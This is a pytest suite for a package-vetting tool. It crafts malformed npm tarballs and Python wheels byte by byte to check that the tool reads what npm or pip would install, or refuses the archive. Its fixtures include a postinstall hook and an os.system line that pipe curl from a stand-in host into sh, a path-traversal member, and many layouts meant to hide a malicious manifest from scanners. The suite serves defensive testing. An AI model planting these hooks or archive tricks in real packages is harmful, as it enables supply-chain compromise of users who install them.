"""Attacks on vet's archive boundary: an archive that npm (or pip) would install differently from
what vet reads. Each hostile layout is built here, byte by byte where tarfile would not write it,
and either vet refuses the archive or vet reads exactly the files npm's own extractor (pacote,
run with node) writes, and the layout never passes quietly."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import shutil
import subprocess
import sys
import zipfile
from base64 import urlsafe_b64encode
from pathlib import Path

import pytest

from mcpward.model import Severity
from mcpward.vet import VetError, VetOptions, run_vet
from mcpward.vet._archive import ArchiveError, Layout, read_archive
from needs import missing
from vet_fixtures import FakeRegistry, serve

CLEAN = json.dumps({"name": "mailer-mcp", "version": "1.0.0"}).encode()
EVIL = json.dumps(
    {"name": "mailer-mcp", "version": "1.0.1", "scripts": {"postinstall": "curl -s https://x.example/i | sh"}}
).encode()
BENIGN_1_0_1 = json.dumps({"name": "mailer-mcp", "version": "1.0.1"}).encode()


# -- a raw tar writer (tarfile refuses to write most of these) ---------------------------------


def _octal(value: int, width: int) -> bytes:
    return f"{value:0{width - 1}o}".encode() + b"\0"


def header(
    name: str | bytes,
    size: int = 0,
    kind: bytes = b"0",
    *,
    linkname: bytes = b"",
    magic: bytes = b"ustar\x0000",
    prefix: bytes = b"",
    size_field: bytes | None = None,
    good_checksum: bool = True,
) -> bytes:
    raw_name = name.encode() if isinstance(name, str) else name
    block = bytearray(512)
    block[0:100] = raw_name[:100].ljust(100, b"\0")
    block[100:108] = _octal(0o644, 8)
    block[108:116] = _octal(0, 8)
    block[116:124] = _octal(0, 8)
    block[124:136] = size_field if size_field is not None else _octal(size, 12)
    block[136:148] = _octal(0, 12)
    block[156:157] = kind
    block[157:257] = linkname.ljust(100, b"\0")
    block[257:265] = magic.ljust(8, b"\0")
    block[345:500] = prefix.ljust(155, b"\0")
    block[148:156] = b" " * 8
    checksum = sum(block) + (0 if good_checksum else 1)
    block[148:156] = f"{checksum:06o}".encode() + b"\0 "
    return bytes(block)


def padded(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % 512)


def entry(name: str | bytes, data: bytes, **kw: object) -> bytes:
    return header(name, len(data), **kw) + padded(data)  # type: ignore[arg-type]


def pax(records: dict[str, str], kind: bytes = b"x") -> bytes:
    body = b""
    for key, value in records.items():
        text = f" {key}={value}\n".encode()
        length = len(text) + len(str(len(text)))
        length = len(text) + len(str(length))
        body += str(length).encode() + text
    return header("PaxHeader", len(body), kind) + padded(body)


def gnu_long(kind: bytes, value: str) -> bytes:
    body = value.encode() + b"\0"
    return header("././@LongLink", len(body), kind, magic=b"ustar  \0") + padded(body)


def end() -> bytes:
    return b"\0" * 1024


def tgz(path: Path, *parts: bytes) -> Path:
    path.write_bytes(gzip.compress(b"".join(parts) + end()))
    return path


# -- npm's own extractor ---------------------------------------------------------------------


def npm_extracts(archive: Path, tmp_path: Path) -> dict[str, bytes]:
    """The files npm writes for this tarball: pacote (npm's fetcher, with npm's extraction options)
    run by node, offline."""
    node = shutil.which("node")
    npm = shutil.which("npm")
    if node is None or npm is None:
        missing("npm-server", "node and npm are needed to compare with npm's own extractor")
    root = subprocess.run([npm, "root", "-g"], capture_output=True, text=True, timeout=60, check=True)
    pacote = Path(root.stdout.strip()) / "npm" / "node_modules" / "pacote"
    if not pacote.is_dir():
        missing("npm-server", f"npm's pacote is not at {pacote}")
    out = tmp_path / f"npm-{archive.name}"
    subprocess.run(
        [
            node,
            "-e",
            f"require({str(pacote)!r}).extract('file:' + process.argv[1], process.argv[2])",
            archive,
            out,
        ],
        capture_output=True,
        timeout=60,
        check=True,
    )
    return {
        p.relative_to(out).as_posix(): p.read_bytes()
        for p in sorted(out.rglob("*"))
        if p.is_file() and not p.is_symlink()
    }


def vet_reads(archive: Path) -> dict[str, bytes] | None:
    """The files vet analyses for an npm tarball, or None when vet refuses the archive."""
    try:
        return read_archive(archive, Layout.NPM).files
    except ArchiveError:
        return None


def vet_local(tmp_path: Path, target: Path, baseline: Path | None = None):  # type: ignore[no-untyped-def]
    return run_vet(
        VetOptions(
            target=str(target), baseline=str(baseline) if baseline else None, cache_dir=tmp_path / "cache"
        )
    )


# -- item 6: an extra top-level member ---------------------------------------------------------


def test_an_extra_top_level_member_does_not_hide_a_new_postinstall(tmp_path: Path) -> None:
    before = tgz(
        tmp_path / "a-1.0.0.tgz", entry("package/package.json", CLEAN), entry("package/index.js", b"1")
    )
    plain = tgz(
        tmp_path / "b-1.0.1.tgz", entry("package/package.json", EVIL), entry("package/index.js", b"1")
    )
    hidden = tgz(
        tmp_path / "c-1.0.1.tgz",
        entry("package/package.json", EVIL),
        entry("package/index.js", b"1"),
        entry("README", b"read me"),
    )
    # A postinstall piping a download into a shell is download-and-run: block, with or without
    # a baseline (it was review when only the new install script was reported).
    assert vet_local(tmp_path, plain, before).verdict == "block"
    report = vet_local(tmp_path, hidden, before)
    assert report.verdict != "pass"
    assert any(f.rule == "new-install-script" and "curl" in (f.evidence or "") for f in report.findings)
    assert any(
        f.rule == "archive-layout" and f.severity.rank >= Severity.MEDIUM.rank for f in report.findings
    )
    assert npm_extracts(hidden, tmp_path)["package.json"] == EVIL  # npm installs the evil manifest


def test_an_extra_top_level_member_from_the_npm_registry(tmp_path: Path, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    registry = FakeRegistry()
    with serve(registry) as base:
        monkeypatch.setenv("MCPWARD_NPM_REGISTRY", base)
        clean = gzip.compress(entry("package/package.json", CLEAN) + entry("package/index.js", b"1") + end())
        evil = gzip.compress(
            entry("package/package.json", EVIL)
            + entry("package/index.js", b"1")
            + entry("README", b"r")
            + end()
        )
        registry.add_npm("mailer-mcp", {"1.0.0": clean, "1.0.1": evil}, base)
        report = run_vet(VetOptions(target="npm:mailer-mcp@1.0.1", cache_dir=tmp_path / "cache"))
    assert report.verdict != "pass"
    assert [f.rule for f in report.findings if f.rule == "new-install-script"] == ["new-install-script"]


# -- every layout confusion: refused, or read as npm reads it ----------------------------------

LAYOUTS: dict[str, list[bytes]] = {
    "two roots": [entry("package/package.json", CLEAN), entry("other/package.json", EVIL)],
    "dot slash root": [entry("package/package.json", CLEAN), entry("./package/package.json", EVIL)],
    "double slash": [entry("package/package.json", CLEAN), entry("package//package.json", EVIL)],
    "manifest at the top": [entry("package.json", EVIL), entry("package/package.json", CLEAN)],
    "duplicate, evil first": [entry("package/package.json", EVIL), entry("package/package.json", CLEAN)],
    "duplicate, evil last": [entry("package/package.json", CLEAN), entry("package/package.json", EVIL)],
    "backslash name": [entry("package/package.json", EVIL), entry("package\\package.json", CLEAN)],
    "drive letter": [entry("package/package.json", CLEAN), entry("package/C:package.json", EVIL)],
    "pax path": [
        entry("package/package.json", CLEAN),
        pax({"path": "package/package.json"}),
        entry("package/harmless.txt", EVIL),
    ],
    "global pax path": [
        pax({"path": "package/harmless.txt"}, kind=b"g"),
        entry("package/package.json", EVIL),
        pax({"mtime": "1"}),
        entry("package/package.json", CLEAN),
    ],
    "gnu long name and pax path": [
        entry("package/package.json", EVIL),
        gnu_long(b"L", "package/other.json"),
        pax({"path": "package/package.json"}),
        entry("package/x", CLEAN),
    ],
    "pax path under a ustar prefix": [
        entry("package/package.json", EVIL),
        pax({"path": "package.json"}),
        entry("x", CLEAN, prefix=b"package"),
    ],
    "prefix without the posix magic": [
        entry("package/package.json", EVIL),
        entry("package.json", CLEAN, magic=b"ustar  \0", prefix=b"package/sub"),
    ],
    "lone zero block": [
        entry("package/package.json", CLEAN),
        b"\0" * 512,
        entry("package/package.json", EVIL),
    ],
    "bad checksum then more": [
        entry("package/package.json", CLEAN),
        header("package/junk", 0, good_checksum=False),
        entry("package/package.json", EVIL),
    ],
    "entries after the end": [
        entry("package/package.json", CLEAN),
        end(),
        entry("package/package.json", EVIL),
    ],
    "file with a link name": [
        entry("package/package.json", EVIL),
        entry("package/package.json", CLEAN, linkname=b"x"),
    ],
    "symlink carrying data": [
        entry("package/package.json", CLEAN),
        header("package/l", 1024, b"2", linkname=b"index.js") + entry("package/package.json", EVIL)[:1024],
    ],
    "file name ending in a slash": [
        entry("package/package.json", EVIL),
        header("package/package.json/", 0) + padded(b""),
    ],
    "octal prefix in the size": [
        entry("package/package.json", CLEAN),
        header("package/a.js", size_field=b"0o1000\0     ") + padded(EVIL[:512]),
    ],
    "trailing junk in the size": [
        entry("package/package.json", CLEAN),
        header("package/a.js", size_field=b"1000x\0      ") + padded(EVIL[:512]),
    ],
    "hard link to the manifest": [
        entry("package/x.json", EVIL),
        entry("package/package.json", CLEAN),
        header("package/package.json", 0, b"1", linkname=b"package/x.json"),
    ],
    "sparse member": [entry("package/package.json", CLEAN), entry("package/index.js", EVIL, kind=b"S")],
    "non-utf8 name": [entry("package/package.json", CLEAN), entry(b"package/\xffa.js", EVIL)],
    "nested manifest only": [entry("package/lib/package.json", EVIL), entry("package/lib/index.js", b"1")],
}


@pytest.mark.parametrize("layout", list(LAYOUTS))
def test_vet_reads_what_npm_installs_or_refuses(tmp_path: Path, layout: str) -> None:
    archive = tgz(tmp_path / "x.tgz", *LAYOUTS[layout])
    seen = vet_reads(archive)
    try:
        installed: dict[str, bytes] | None = npm_extracts(archive, tmp_path)
    except subprocess.CalledProcessError:
        installed = None  # npm refuses it as well
    if seen is not None and installed is not None:
        assert seen == installed  # what vet analyses is, file for file, what npm writes
    # Never a quiet pass: refused (a clear error), or read with a finding that asks for review.
    try:
        report = vet_local(tmp_path, archive)
    except VetError as exc:
        assert "x.tgz" in str(exc)
        return
    assert report.verdict != "pass", [(f.rule, f.message) for f in report.findings]


def test_a_canonical_npm_pack_tarball_reads_as_npm_installs_it(tmp_path: Path) -> None:
    """The other side: a tarball written by npm itself (npm pack) reads file for file."""
    npm = shutil.which("npm")
    if npm is None or shutil.which("node") is None:
        missing("npm-server", "npm is needed to pack a tarball")
    source = tmp_path / "src"
    (source / "lib").mkdir(parents=True)
    (source / "package.json").write_text(json.dumps({"name": "packed-mcp", "version": "1.0.0"}))
    (source / "lib" / "index.js").write_text("export const x = 1;\n")
    (source / ("n" * 120 + ".js")).write_text("// a long name (pax header)\n")
    subprocess.run([npm, "pack", "--silent"], cwd=source, capture_output=True, timeout=120, check=True)
    [packed] = source.glob("*.tgz")
    assert vet_reads(packed) == npm_extracts(packed, tmp_path)
    assert vet_local(tmp_path, packed).verdict == "pass"


# -- case folding ------------------------------------------------------------------------------


@pytest.mark.parametrize("other", ["PACKAGE.JSON", "Package.json"])
def test_names_that_collide_on_a_case_insensitive_disk_are_reported(tmp_path: Path, other: str) -> None:
    archive = tgz(tmp_path / "x.tgz", entry("package/package.json", CLEAN), entry(f"package/{other}", EVIL))
    report = vet_local(tmp_path, archive)
    assert report.verdict != "pass"
    assert any(f.rule == "archive-unsafe-member" and other in (f.config_path or "") for f in report.findings)


# -- sdists (pip strips a leading folder only when every member shares it) ---------------------


def test_sdist_layout_is_read_as_pip_reads_it(tmp_path: Path) -> None:
    pkg_info = b"Metadata-Version: 2.1\nName: mailer-mcp\nVersion: 1.0.0\n\n"
    archive = tgz(
        tmp_path / "mailer-mcp-1.0.0.tar.gz",
        entry("mailer-mcp-1.0.0/PKG-INFO", pkg_info),
        entry("mailer-mcp-1.0.0/setup.py", b"print(1)\n"),
        entry("README", b"beside the root"),
    )
    files = read_archive(archive, Layout.SDIST).files
    # pip strips nothing here (no common leading folder), so neither does vet.
    assert set(files) == {"mailer-mcp-1.0.0/PKG-INFO", "mailer-mcp-1.0.0/setup.py", "README"}
    report = vet_local(tmp_path, archive)
    assert report.verdict != "pass"
    assert any(f.rule == "archive-layout" for f in report.findings)


# -- wheels --------------------------------------------------------------------------------------


def _record_line(name: str, data: bytes) -> str:
    digest = urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}"


def wheel_with(tmp_path: Path, members: list[tuple[str, bytes]], *, record: list[str] | None = None) -> Path:
    meta = b"Metadata-Version: 2.1\nName: mailer-mcp\nVersion: 1.0.0\n\n"
    members = [*members, ("mailer_mcp-1.0.0.dist-info/METADATA", meta)]
    lines = record if record is not None else [_record_line(n, d) for n, d in members]
    lines.append("mailer_mcp-1.0.0.dist-info/RECORD,,")
    members.append(("mailer_mcp-1.0.0.dist-info/RECORD", ("\n".join(lines) + "\n").encode()))
    path = tmp_path / "mailer_mcp-1.0.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data)
    return path


def test_a_clean_wheel_passes(tmp_path: Path) -> None:
    path = wheel_with(tmp_path, [("mailer_mcp/__init__.py", b"X = 1\n")])
    assert vet_local(tmp_path, path).verdict == "pass"


def test_zip_backslash_names_are_refused(tmp_path: Path) -> None:
    evil = b'import os\nos.system("curl https://x.example | sh")\n'
    path = wheel_with(tmp_path, [("mailer_mcp/cli.py", evil), ("mailer_mcp\\cli.py", b"X = 1\n")])
    with pytest.raises(VetError, match="backslash"):
        vet_local(tmp_path, path)


def test_zip_duplicate_names_are_reported_and_the_installed_copy_is_read(tmp_path: Path) -> None:
    evil = b'import os\nos.system("curl https://x.example | sh")\n'
    with pytest.warns(UserWarning, match="Duplicate name"):
        path = wheel_with(tmp_path, [("mailer_mcp/cli.py", b"X = 1\n"), ("mailer_mcp/cli.py", evil)])
    files = read_archive(path, Layout.WHEEL).files
    with zipfile.ZipFile(path) as archive:
        assert files["mailer_mcp/cli.py"] == archive.read("mailer_mcp/cli.py") == evil
    report = vet_local(tmp_path, path)
    assert report.verdict != "pass"
    assert any(f.rule == "archive-unsafe-member" and "duplicate" in f.message for f in report.findings)


def test_wheel_files_missing_from_record_are_reported(tmp_path: Path) -> None:
    path = wheel_with(
        tmp_path,
        [("mailer_mcp/__init__.py", b"X = 1\n"), ("mailer_mcp/extra.pth", b"import os\n")],
        record=[_record_line("mailer_mcp/__init__.py", b"X = 1\n")],
    )
    report = vet_local(tmp_path, path)
    assert report.verdict != "pass"
    assert any(f.rule == "wheel-record-mismatch" for f in report.findings)


# -- the manifest itself (LOW) -----------------------------------------------------------------


@pytest.mark.parametrize(
    "manifest",
    [
        b"[" * 100_000 + b"]" * 100_000,
        b'{"name": "mailer-mcp", "scripts": {"postinstall": "curl x | sh"}',
        b"\xef\xbb\xbf" + EVIL,
        b'"just a string"',
    ],
    ids=["deeply nested", "truncated", "byte order mark", "not an object"],
)
def test_an_unreadable_manifest_is_a_finding_not_a_crash(tmp_path: Path, manifest: bytes, cli) -> None:  # type: ignore[no-untyped-def]
    archive = tgz(
        tmp_path / "x.tgz", entry("package/package.json", manifest), entry("package/index.js", b"1")
    )
    result = cli("vet", str(archive), "--offline", "--cache-dir", str(tmp_path / "c"), "--format", "json")
    assert result.exit_code in (1, 4), result.stderr
    assert "Traceback" not in result.stderr + result.stdout
    rules = {f["rule"] for f in result.json()["findings"]}
    assert rules & {"manifest-unreadable", "install-script"}


def test_binding_gyp_is_an_install_script(tmp_path: Path) -> None:
    """npm runs ``node-gyp rebuild`` at install for a package with a binding.gyp and no install
    script of its own."""
    archive = tgz(
        tmp_path / "x.tgz",
        entry("package/package.json", CLEAN),
        entry("package/binding.gyp", b"{'targets': []}"),
    )
    report = vet_local(tmp_path, archive)
    assert any(f.rule == "install-script" and "node-gyp" in f.message for f in report.findings)


def test_nothing_is_written_outside_the_temporary_folder(tmp_path: Path) -> None:
    before = set(os.listdir(tmp_path.parent))
    archive = tgz(tmp_path / "x.tgz", entry("../../escape.js", EVIL), entry("package/package.json", CLEAN))
    report = vet_local(tmp_path, archive)
    assert report.verdict != "pass"
    assert set(os.listdir(tmp_path.parent)) == before


def test_deeply_nested_registry_and_attestation_documents_are_clear_errors(
    tmp_path: Path, monkeypatch
) -> None:  # type: ignore[no-untyped-def]
    """A packument carries the publisher's manifest fields; attestations sit beside an archive.
    Nested past the parser's recursion limit, they give a clear error or finding, no traceback."""
    deep = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    archive = tgz(tmp_path / "x.tgz", entry("package/package.json", CLEAN), entry("package/index.js", b"1"))
    (tmp_path / "x.tgz.attestations.json").write_bytes(deep)
    report = vet_local(tmp_path, archive)
    assert report.verdict in ("pass", "review")
    registry = FakeRegistry()
    with serve(registry) as base:
        monkeypatch.setenv("MCPWARD_NPM_REGISTRY", base)
        registry.routes["/deep-mcp"] = deep
        with pytest.raises(VetError, match="not JSON"):
            run_vet(VetOptions(target="npm:deep-mcp@1.0.0", cache_dir=tmp_path / "cache"))


@pytest.mark.parametrize("seed", range(3))
def test_mutated_archives_are_read_or_refused_never_a_crash(tmp_path: Path, seed: int) -> None:
    """A few hundred random byte flips of a tar (with pax, GNU long names, links) and of a wheel:
    each is read or refused with ArchiveError, never another exception (exit 3)."""
    import random

    rng = random.Random(seed)  # noqa: S311 - a reproducible fuzz, not a secret
    tar = (
        b"".join(
            [
                entry("package/package.json", EVIL),
                pax({"path": "package/" + "n" * 120 + ".js"}),
                entry("x", b"abc"),
                gnu_long(b"L", "package/long/" + "m" * 150),
                entry("y", b"def"),
                header("package/d/", 0, b"5"),
                header("package/l", 0, b"2", linkname=b"x"),
                entry("package/index.js", b"require('./a')"),
            ]
        )
        + end()
    )
    zipped = wheel_with(tmp_path, [("mailer_mcp/__init__.py", b"import os\n" * 20)]).read_bytes()
    for index in range(300):
        original, suffix = (tar, ".tgz") if index % 2 else (zipped, ".whl")
        data = bytearray(original)
        for _ in range(rng.randint(1, 5)):
            data[rng.randrange(len(data))] = rng.randrange(256)
        path = tmp_path / f"m{suffix}"
        path.write_bytes(gzip.compress(bytes(data)) if index % 4 == 1 else bytes(data))
        try:
            files = read_archive(path, Layout.AUTO)
        except ArchiveError:
            continue
        from mcpward.vet._sources.local import manifest_metadata

        manifest_metadata(files)


@pytest.mark.parametrize("damage", ["name not utf-8", "encrypted member"])
def test_damaged_wheels_are_refused_clearly(tmp_path: Path, damage: str) -> None:
    path = wheel_with(tmp_path, [("mailer_mcp/caf\u00e9.py", b"X = 1\n")])
    data = path.read_bytes()
    if damage == "name not utf-8":
        data = data.replace("caf\u00e9".encode(), b"caf\xc3\x28")  # local and central headers
    else:
        # general purpose flag bit 0 (encrypted) in every local and central header
        data = data.replace(b"PK\x03\x04\x14\x00\x00\x08", b"PK\x03\x04\x14\x00\x01\x08")
        data = data.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00")
        data = data.replace(b"PK\x01\x02\x14\x03\x14\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01")
    path.write_bytes(data)
    with pytest.raises(VetError, match="corrupt archive"):
        vet_local(tmp_path, path)


@pytest.mark.parametrize("trailer", [b"", b"garbage after the gzip stream"])
def test_a_tarball_split_across_gzip_members_reads_as_npm_reads_it(tmp_path: Path, trailer: bytes) -> None:
    first = entry("package/package.json", CLEAN) + entry("package/index.js", b"1")
    second = entry("package/package.json", EVIL) + end()
    archive = tmp_path / "x.tgz"
    archive.write_bytes(gzip.compress(first) + gzip.compress(second) + trailer)
    seen = vet_reads(archive)
    try:
        installed: dict[str, bytes] | None = npm_extracts(archive, tmp_path)
    except subprocess.CalledProcessError:
        installed = None
    if seen is not None and installed is not None:
        assert seen == installed
    if seen is None:
        return
    assert installed is not None and installed["package.json"] == EVIL == seen["package.json"]


def test_a_fifo_target_is_refused_not_waited_on(tmp_path: Path) -> None:
    fifo = tmp_path / "x.tgz"
    os.mkfifo(fifo)
    result = subprocess.run(
        [sys.executable, "-m", "mcpward", "vet", str(fifo), "--offline", "--cache-dir", str(tmp_path / "c")],
        capture_output=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 2 and b"not a regular file" in result.stderr
